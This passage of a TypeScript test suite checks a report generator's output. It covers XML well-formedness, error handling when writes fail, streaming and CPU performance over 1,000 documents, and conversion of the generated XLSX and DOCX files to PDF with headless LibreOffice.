          if (!/\.(xml|rels)$/.test(name)) continue;
          assertWellFormed(bytes.toString('utf8'), `${type} ${f.spec.name} ${name}`);
          parts++;
        }
      }
    }
    assert.ok(parts > 50, `${parts} parts checked`);
  });

  test('a failing sink fails the generator (no hang)', async () => {
    const failing: ArtifactSink = {
      async write(_spec, body) {
        if (!Buffer.isBuffer(body)) body.resume();
        throw new Error('disk full');
      },
    };
    await assert.rejects(GENERATORS.TabularReport(makeInput('TabularReport'), failing), /disk full/);
    const notReading: ArtifactSink = { write: async () => Promise.reject(new Error('refused')) };
    await assert.rejects(GENERATORS.DiligenceReport(makeInput('DiligenceReport'), notReading), /refused/);
  });

  test('TabularReport over 1,000 documents x 20 items streams, in well under a second of CPU', async () => {
    const items: ReportItem[] = Array.from({ length: 20 }, (_, i) => ({ propertyId: `p${i}`, label: `Property ${i}`, labelId: `Property${i}` }));
    const documents = Array.from({ length: 1000 }, (_, d) =>
      doc(`doc${String(d).padStart(4, '0')}`, `Document ${d}.pdf`, Object.fromEntries(items.map((it, i) => [it.propertyId, v(`value ${d}-${i} ${'x'.repeat((d * 7 + i) % 40)}`)]))),
    );
    const input = makeInput('TabularReport', { items, properties: items, documents });
    // Warm up the modules, then measure.
    await GENERATORS.TabularReport(makeInput('TabularReport'), memorySink());
    let consumed = 0;
    let peakChunk = 0;
    const sink: ArtifactSink = {
      async write(spec, body) {
        if (Buffer.isBuffer(body)) {
          consumed += body.length;
          return;
        }
        assert.equal(spec.name, 'report.xlsx');
        for await (const c of body) {
          consumed += (c as Buffer).length;
          peakChunk = Math.max(peakChunk, (c as Buffer).length);
        }
      },
    };
    const cpu = process.cpuUsage();
    await GENERATORS.TabularReport(input, sink);
    const used = process.cpuUsage(cpu);
    const ms = (used.user + used.system) / 1000;
    assert.ok(consumed > 100_000);
    assert.ok(peakChunk < 1_000_000, `the XLSX arrives in chunks (largest ${peakChunk} bytes)`);
    assert.ok(ms < 1000, `generator CPU ${ms.toFixed(0)} ms`);
  });
});

// ---------------------------------------------------------------- LibreOffice

describe('LibreOffice opens every XLSX and DOCX', () => {
  const soffice = findSoffice();
  /** Calc ships separately from Writer (Debian's libreoffice-calc): without libsclo, no XLSX opens. */
  const hasCalc = soffice !== null && fs.existsSync(path.join(path.dirname(fs.realpathSync(soffice)), 'libsclo.so'));

  async function officeFiles(dir: string, ext: 'xlsx' | 'docx'): Promise<string[]> {
    const out: string[] = [];
    for (const type of PROJECT_TYPES) {
      const sink = await run(type);
      for (const f of sink.files) {
        if (!f.spec.name.endsWith(`.${ext}`)) continue;
        const p = path.join(dir, `${type}-${f.spec.documentId ?? 'docset'}-${f.spec.name}`);
        fs.writeFileSync(p, f.bytes);
        out.push(p);
      }
    }
    return out;
  }

  async function convertAll(ext: 'xlsx' | 'docx', expected: number): Promise<void> {
    const dir = scratchDir('quire-reports-');
    const profileDir = path.join(dir, 'profile');
    try {
      const files = await officeFiles(dir, ext);
      assert.equal(files.length, expected, files.join(', '));
      const out = path.join(dir, 'pdf');
      const r = spawnSync(soffice!, [`-env:UserInstallation=file://${profileDir}`, '--headless', '--norestore', '--convert-to', 'pdf', '--outdir', out, ...files], { timeout: 120_000, env: { ...process.env, TMPDIR: dir } });
      assert.equal(r.status, 0, `soffice: ${String(r.stderr)}`);
      for (const p of files) {
        const pdf = path.join(out, `${path.basename(p, `.${ext}`)}.pdf`);
        assert.ok(fs.existsSync(pdf), `${path.basename(p)} converted (soffice said: ${String(r.stderr).trim()})`);
        assert.equal(fs.readFileSync(pdf).subarray(0, 5).toString('latin1'), '%PDF-');
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }

  // 4 abstract.docx and clause-library.docx.
  test('DOCX converted to PDF by Writer', { skip: soffice ? false : 'soffice is not on PATH (LibreOffice not installed)', timeout: 300_000 }, () => convertAll('docx', 5));
  // report.xlsx, abstracts.xlsx, spreadsheet.xlsx, diligence-report.xlsx.
  test('XLSX converted to PDF by Calc', { skip: !soffice ? 'soffice is not on PATH (LibreOffice not installed)' : !hasCalc ? 'LibreOffice Calc is not installed (no libsclo.so next to soffice)' : false, timeout: 300_000 }, () =>
    convertAll('xlsx', 4));
});
